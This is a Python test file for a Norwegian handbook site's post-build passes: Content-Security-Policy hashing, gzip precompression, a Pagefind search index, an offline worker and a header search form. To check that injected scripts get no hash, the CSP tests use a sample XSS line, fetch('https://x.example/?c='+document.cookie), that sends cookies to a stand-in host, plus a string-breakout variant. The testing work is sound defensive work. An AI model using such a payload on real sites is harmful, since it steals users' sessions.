"""Post-build passes over site/: the Content-Security-Policy of every page, reproducible .gz files, the search
index and its preloads, the offline worker and the header's search form."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import re
import sys
from html.parser import HTMLParser
from pathlib import Path

import material
import pytest

from conftest import add
from handbok.core.errors import Stop
from handbok.site.postbuild import offline
from handbok.site.postbuild import PASSES, csp, header_search, precompress, run_passes, search_index, with_policy
from handbok.site.postbuild.policy import script_hash

BIG = "<p>Fallforebygging i hjemmetjenesten.</p>\n" * 100


def test_precompress_writes_gz_beside_larger_text_files(tmp_path: Path) -> None:
    for rel in ("index.html", "assets/stil.css", "sok/indeks.json", "status/status.csv", "robots.txt"):
        add(tmp_path, rel, BIG)
    add(tmp_path, "liten.html", "<p>kort</p>")
    (tmp_path / "bilde.png").write_bytes(b"\x89PNG" + bytes(4000))
    precompress(tmp_path)
    made = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*.gz"))
    assert made == ["assets/stil.css.gz", "index.html.gz", "robots.txt.gz", "sok/indeks.json.gz",
                    "status/status.csv.gz"]
    assert gzip.decompress((tmp_path / "index.html.gz").read_bytes()) == BIG.encode("utf-8")


def test_precompress_is_reproducible_and_skips_compressed_files(tmp_path: Path) -> None:
    add(tmp_path, "index.html", BIG)
    run_passes(tmp_path, (csp, precompress))
    first = (tmp_path / "index.html.gz").read_bytes()
    assert first[4:8] == b"\0\0\0\0"  # mtime 0
    (tmp_path / "index.html").touch()
    run_passes(tmp_path, (precompress,))
    assert (tmp_path / "index.html.gz").read_bytes() == first
    assert sorted(p.name for p in tmp_path.iterdir()) == ["index.html", "index.html.gz"]


def test_precompress_follows_the_text(tmp_path: Path) -> None:
    add(tmp_path, "index.html", BIG)
    precompress(tmp_path)
    add(tmp_path, "index.html", BIG + "<p>Ny versjon.</p>\n")
    precompress(tmp_path)
    assert gzip.decompress((tmp_path / "index.html.gz").read_bytes()).endswith(b"<p>Ny versjon.</p>\n")


# --- Content-Security-Policy ----------------------------------------------------------------------

THEME = Path(material.__file__).parent / "templates" / "partials" / "javascripts"


def shipped(template: str, value: str = "") -> str:
    """The last inline script of one of the theme's templates, as the engine writes it (expressions filled in)."""
    body = re.findall(r"<script>(.*?)</script>", (THEME / template).read_text(encoding="utf-8"), re.S)[-1]
    return re.sub(r"{{.*?}}", value, body)


FIRST = shipped("base.html", "../..")  # the theme's storage helpers, with the page's base address
SECOND = shipped("content.html")  # the theme's tab restorer
INJECTED = "fetch('https://x.example/?c='+document.cookie)"
TWO_SCRIPTS = (f"<!doctype html>\n<html lang=\"nb\">\n  <head>\n    <meta charset=\"utf-8\">\n"
               f"    <script>{FIRST}</script>\n    <script src=\"assets/bundle.js\"></script>\n"
               f"  </head>\n  <body><script type=\"text/javascript\">{SECOND}</script></body>\n</html>\n")


class _Elements(HTMLParser):
    """The start tags of a page in order, and the policy its meta element carries."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.policy: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        values = dict(attrs)
        if tag == "meta" and values.get("http-equiv") == "Content-Security-Policy":
            self.policy.append(values.get("content") or "")


def elements(page: str) -> _Elements:
    parser = _Elements()
    parser.feed(page)
    return parser


def directives(policy: str) -> dict[str, list[str]]:
    return {name: sources for name, *sources in (d.split() for d in policy.split(";"))}


def sha256(text: str) -> str:
    """What a browser computes: CR LF already turned into LF by its parser, UTF-8 bytes, base64."""
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.replace("\r\n", "\n").encode()).digest()).decode() + "'"


def test_a_page_with_two_inline_scripts_gets_exactly_their_two_hashes() -> None:
    found = elements(with_policy(TWO_SCRIPTS))
    assert len(found.policy) == 1
    policy = directives(found.policy[0])
    assert policy["script-src"] == ["'self'", sha256(FIRST), sha256(SECOND), "'wasm-unsafe-eval'"]
    assert policy["default-src"] == ["'self'"] and policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'self'"] and policy["style-src"] == ["'self'", "'unsafe-inline'"]
    assert policy["img-src"] == ["'self'", "data:"] and "frame-ancestors" not in policy
    assert set(policy) == {"default-src", "script-src", "style-src", "img-src", "font-src", "connect-src",
                           "worker-src", "manifest-src", "object-src", "base-uri", "form-action", "frame-src"}


def test_the_policy_is_the_first_element_in_head() -> None:
    page = with_policy(TWO_SCRIPTS)
    assert elements(page).tags[:4] == ["html", "head", "meta", "meta"]
    assert page.index("<head>") + len("<head>") == page.index("<meta http-equiv=\"Content-Security-Policy\"")
    assert page.replace(page[page.index("<meta http-equiv"):page.index("\n    <meta charset")], "") == TWO_SCRIPTS


def test_a_page_without_head_gets_the_policy_before_its_content() -> None:
    page = with_policy(f"<!DOCTYPE html>\n<html lang=\"nb\"><title>Tilsyn</title><script>{SECOND}</script><p>Hei</p>")
    assert page.startswith("<!DOCTYPE html>\n<html lang=\"nb\"><meta http-equiv=\"Content-Security-Policy\"")
    assert sha256(SECOND) in elements(page).policy[0]
    bare = with_policy("<p>Bare tekst</p>")
    assert bare.startswith("<meta http-equiv=\"Content-Security-Policy\"") and bare.endswith("><p>Bare tekst</p>")


def test_a_page_without_scripts_allows_none_inline() -> None:
    policy = directives(elements(with_policy("<html><head><title>x</title></head></html>")).policy[0])
    assert policy["script-src"] == ["'self'", "'wasm-unsafe-eval'"]


def test_the_pass_is_idempotent(tmp_path: Path) -> None:
    add(tmp_path, "index.html", TWO_SCRIPTS)
    add(tmp_path, "tilsyn/nord.html", "<p>Uten head</p>")
    csp(tmp_path)
    once = {p: p.read_bytes() for p in tmp_path.rglob("*.html")}
    csp(tmp_path)
    assert {p: p.read_bytes() for p in tmp_path.rglob("*.html")} == once
    assert all(len(elements(text.decode()).policy) == 1 for text in once.values())


def test_a_changed_script_changes_its_hash_when_the_pass_runs_again(tmp_path: Path) -> None:
    add(tmp_path, "index.html", TWO_SCRIPTS)
    csp(tmp_path)
    moved = FIRST.replace('"../.."', '"."')  # the same page one level up: another base address
    add(tmp_path, "index.html", (tmp_path / "index.html").read_text(encoding="utf-8").replace(FIRST, moved))
    csp(tmp_path)
    found = elements((tmp_path / "index.html").read_text(encoding="utf-8"))
    assert len(found.policy) == 1
    assert directives(found.policy[0])["script-src"] == ["'self'", sha256(moved), sha256(SECOND), "'wasm-unsafe-eval'"]


# --- the second wall: only the scripts the theme and handbok ship ---------------------------------------------

@pytest.mark.parametrize("script", [
    f"<script>{INJECTED}</script>",
    f"<SCRIPT type=\"module\">{INJECTED}</SCRIPT >",
    "<script>" + FIRST.replace("../..", '.",location),alert(1),("') + "</script>",  # a value that leaves its string
    f"<script>{SECOND};{INJECTED}</script>",  # a known script with more after it
])
def test_an_injected_script_gets_no_hash(script: str) -> None:
    page = TWO_SCRIPTS.replace("<body>", f"<body><p>Innhold</p>{script}")
    policy = directives(elements(with_policy(page)).policy[0])
    assert policy["script-src"] == ["'self'", sha256(FIRST), sha256(SECOND), "'wasm-unsafe-eval'"]


def test_scripts_that_do_not_run_need_no_hash() -> None:
    page = TWO_SCRIPTS.replace("<body>", '<body><script id="__config" type="application/json">{"a": 1}</script>'
                                         '<script type="text/plain" data-x="y"></script>')
    assert directives(elements(with_policy(page)).policy[0])["script-src"] == [
        "'self'", sha256(FIRST), sha256(SECOND), "'wasm-unsafe-eval'"]


def test_the_pass_refuses_a_site_with_an_injected_script_after_protecting_every_page(tmp_path: Path) -> None:
    add(tmp_path, "a/index.html", TWO_SCRIPTS.replace("<body>", f"<body><script>{INJECTED}</script>"))
    add(tmp_path, "b/index.html", TWO_SCRIPTS)
    with pytest.raises(Stop, match="a/index.html har et skript som verken temaet eller handbok har laget"):
        csp(tmp_path)
    for page in ("a/index.html", "b/index.html"):
        policy = elements((tmp_path / page).read_text(encoding="utf-8")).policy
        assert len(policy) == 1 and sha256(INJECTED) not in policy[0]


def test_a_script_hash_is_of_the_text_the_browser_parsed() -> None:
    assert script_hash("a()\r\nb()\rc()") == sha256("a()\nb()\nc()")


def test_the_policy_runs_before_precompression(tmp_path: Path) -> None:
    assert PASSES.index(csp) < PASSES.index(precompress)
    add(tmp_path, "index.html", BIG)
    run_passes(tmp_path)
    packed = gzip.decompress((tmp_path / "index.html.gz").read_bytes())
    assert packed == (tmp_path / "index.html").read_bytes() and b"Content-Security-Policy" in packed


def test_search_index_holds_only_the_marked_parts_in_norwegian(tmp_path: Path) -> None:
    add(tmp_path, "a/index.html", '<html lang="nb"><body><main><nav>Meny</nav><div data-handbok-sokbar hidden>'
        "</div><h1>Fallforebygging</h1><p>Tiltak etter fall.</p></main></body></html>")
    add(tmp_path, "b/index.html", '<html lang="nb"><body><main><p>Status per tjenestested</p></main></body></html>')
    search_index(tmp_path)
    entry = json.loads((tmp_path / "pagefind/pagefind-entry.json").read_text(encoding="utf-8"))
    assert entry["languages"]["nb"]["page_count"] == 1
    assert (tmp_path / "pagefind/pagefind.js").is_file() and not (tmp_path / "pagefind/pagefind-ui.js").exists()



# Pagefind 1.5.2 answers before its files are on disk: a write still waits for a pool thread when the answer
# leaves (Pagefind#1271), and a Pagefind stopped then leaves a file empty or cut. This stand-in runs the real
# one and lets each file land half a second late, as on a loaded machine: after the service's answer (so
# never, if the service is stopped first), or just before the program ends.
LATE_PAGEFIND = """#!{python}
import base64, json, shutil, subprocess, sys, threading, time

REAL, LATE = {real!r}, ".underveis"
args = sys.argv[1:]


def land(target):
    time.sleep(0.5)
    shutil.copytree(target + LATE, target, dirs_exist_ok=True)


def frames(stream):
    rest = b""
    for chunk in iter(lambda: stream.read1(1 << 16), b""):
        *done, rest = (rest + chunk).split(b",")
        yield from done


if "--service" not in args:
    at = args.index("--output-path") + 1
    target, args[at] = args[at], args[at] + LATE
    code = subprocess.call([REAL, *args])
    land(target)
    sys.exit(code)

real = subprocess.Popen([REAL, *args], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
targets = {{}}


def answers():
    for frame in frames(real.stdout):
        sys.stdout.buffer.write(frame + b",")
        sys.stdout.flush()
        message_id = json.loads(base64.b64decode(frame)).get("message_id")
        if message_id in targets:
            threading.Thread(target=land, args=(targets.pop(message_id),)).start()


threading.Thread(target=answers, daemon=True).start()
for frame in frames(sys.stdin.buffer):
    message = json.loads(base64.b64decode(frame))
    if message["payload"]["type"] == "WriteFiles":
        targets[message["message_id"]] = message["payload"]["output_path"]
        message["payload"]["output_path"] += LATE
        frame = base64.b64encode(json.dumps(message).encode("utf-8"))
    real.stdin.write(frame + b",")
    real.stdin.flush()
"""


def test_the_search_index_is_read_only_once_pagefind_has_written_all_of_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from pagefind.service import get_executable

    late = tmp_path / "sen-pagefind"
    late.write_text(LATE_PAGEFIND.format(python=sys.executable, real=str(get_executable())), encoding="utf-8")
    late.chmod(0o755)
    monkeypatch.setenv("PAGEFIND_BINARY_PATH", str(late))
    site = tmp_path / "site"
    add(site, "a/index.html", '<html lang="nb"><body><main><div data-handbok-sokbar hidden></div>'
        "<h1>Fallforebygging</h1><p>Tiltak etter fall.</p></main></body></html>")
    add(site, "sok/index.html", '<html lang="nb"><head><link rel="stylesheet" href="s.css">\n</head>'
        "<body><main></main></body></html>")
    search_index(site)
    entry = (site / "pagefind/pagefind-entry.json").read_bytes()
    assert json.loads(entry)["languages"]["nb"]["page_count"] == 1
    tag = hashlib.sha256(entry).hexdigest()[:12]
    assert f"../pagefind/pagefind-entry.json?ts={tag}" in (site / "sok/index.html").read_text(encoding="utf-8")


# --- the offline worker ---------------------------------------------------------------------------------

def worker_lists(site: Path) -> tuple[str, list[str], list[str]]:
    """(version, core addresses, background addresses) as written into site/sw.js and its list."""
    import re

    text = (site / "sw.js").read_text(encoding="utf-8")
    found = {name: json.loads(value) for name, value in re.findall(r"^const (VERSJON|KJERNE|LISTE) = (.*?)(?: //.*)?$",
                                                                     text, re.MULTILINE)}
    listing = json.loads((site / found["LISTE"]).read_text(encoding="utf-8"))
    assert listing["versjon"] == found["VERSJON"]
    return found["VERSJON"], [p for p, _ in found["KJERNE"]], [p for p, _ in listing["filer"]]


def small_site(root: Path) -> Path:
    for rel in ("index.html", "sok/index.html", "rutiner/fall/index.html", "roller/sykepleier/index.html",
                "tilsyn/nord.html", "assets/handbok/handbok.css", "pagefind/pagefind.js",
                "pagefind/fragment/nb_1.pf_fragment", "utgave.json", "roller/sykepleier.xml"):
        add(root, rel, f"<p>{rel}</p>")
    return root


def test_the_worker_lists_pages_by_their_address_the_index_and_the_assets(tmp_path: Path) -> None:
    run_passes(small_site(tmp_path), (csp, offline))
    _, core, rest = worker_lists(tmp_path)
    assert core == ["./", "assets/handbok/handbok.css", "pagefind/pagefind.js", "sok/", "utgave.json"]
    assert rest == ["pagefind/fragment/nb_1.pf_fragment", "roller/sykepleier/", "rutiner/fall/"]  # no audit, no feed


def test_the_worker_stays_small_however_many_pages_it_stores(tmp_path: Path) -> None:
    small_site(tmp_path)
    offline(tmp_path)
    small = (tmp_path / "sw.js").stat().st_size
    for n in range(500):
        add(tmp_path, f"rutiner/r{n}/index.html", f"<p>{n}</p>")
    offline(tmp_path)
    assert (tmp_path / "sw.js").stat().st_size == small  # the version changed, not the length
    assert len(worker_lists(tmp_path)[2]) == 503 and "sw-filer.json" not in worker_lists(tmp_path)[2]


def test_the_worker_version_follows_the_files(tmp_path: Path) -> None:
    small_site(tmp_path)
    offline(tmp_path)
    first = (tmp_path / "sw.js").read_bytes()
    offline(tmp_path)
    assert (tmp_path / "sw.js").read_bytes() == first  # nothing changed: the same worker, no update
    add(tmp_path, "rutiner/fall/index.html", "<p>ny tekst</p>")
    offline(tmp_path)
    assert worker_lists(tmp_path)[0] != json.loads(first.decode().split("const VERSJON = ", 1)[1].split("\n", 1)[0])


def test_the_worker_lists_the_final_pages_and_is_precompressed_after(tmp_path: Path) -> None:
    assert PASSES.index(search_index) < PASSES.index(csp) < PASSES.index(offline) < PASSES.index(precompress)


# --- the header's search form and the search page's preloads ---------------------------------------------

PAGE = ('<!doctype html>\n<html lang="nb">\n<head>\n<meta charset="utf-8">\n<link rel="stylesheet" href="../a.css">\n'
        '</head>\n<body>\n<header class="md-header">\n<nav aria-label="Topptekst">\n<a href="../">Hjem</a>\n</nav>\n'
        '</header>\n<main><p>Tekst</p></main>\n</body>\n</html>\n')


def test_every_page_but_404_gets_one_header_search_leading_to_sok(tmp_path: Path) -> None:
    for rel in ("index.html", "rutiner/fall/index.html", "404.html"):
        add(tmp_path, rel, PAGE)
    add(tmp_path, "tilsyn/nord.html", "<!doctype html><html><body><p>Tilsyn</p></body></html>")
    header_search(tmp_path)
    header_search(tmp_path)  # a second run adds nothing
    deep = (tmp_path / "rutiner/fall/index.html").read_text(encoding="utf-8")
    assert deep.count('class="handbok-toppsok"') == 1 and 'action="../../sok/"' in deep
    assert deep.index('class="handbok-toppsok"') < deep.index("</nav>") < deep.index("</header>")
    assert 'action="sok/"' in (tmp_path / "index.html").read_text(encoding="utf-8")
    assert "handbok-toppsok" not in (tmp_path / "404.html").read_text(encoding="utf-8")  # any address: no relative link
    assert "handbok-toppsok" not in (tmp_path / "tilsyn/nord.html").read_text(encoding="utf-8")  # no header


def test_the_search_page_preloads_the_index_before_its_style_sheets(tmp_path: Path) -> None:
    add(tmp_path, "sok/index.html", PAGE)
    add(tmp_path, "sok/ord.json", "{}")
    add(tmp_path, "rutiner/fall/index.html", '<main><div data-handbok-sokbar></div><h1>Fall</h1><p>Fall.</p></main>')
    run_passes(tmp_path, (search_index, csp))
    entry = tmp_path / "pagefind/pagefind-entry.json"
    tag = hashlib.sha256(entry.read_bytes()).hexdigest()[:12]
    page = (tmp_path / "sok/index.html").read_text(encoding="utf-8")
    links = re.findall(r'<link rel="(?:modulepreload|preload)" href="([^"]+)"', page)
    language = json.loads(entry.read_text(encoding="utf-8"))["languages"]["nb"]
    assert links == ["../pagefind/pagefind.js", f"../pagefind/pagefind-entry.json?ts={tag}",
                     f"../pagefind/pagefind.{language['hash']}.pf_meta", "../pagefind/wasm.nb.pagefind", "ord.json"]
    assert all((tmp_path / "sok" / link.split("?")[0]).resolve().is_file() for link in links)
    assert page.index("wasm.nb.pagefind") < page.index('rel="stylesheet"')
    assert page.index("Content-Security-Policy") < page.index("pagefind.js")
    run_passes(tmp_path, (search_index, csp))  # again: the same links once, the same policy once
    again = (tmp_path / "sok/index.html").read_text(encoding="utf-8")
    assert again == page
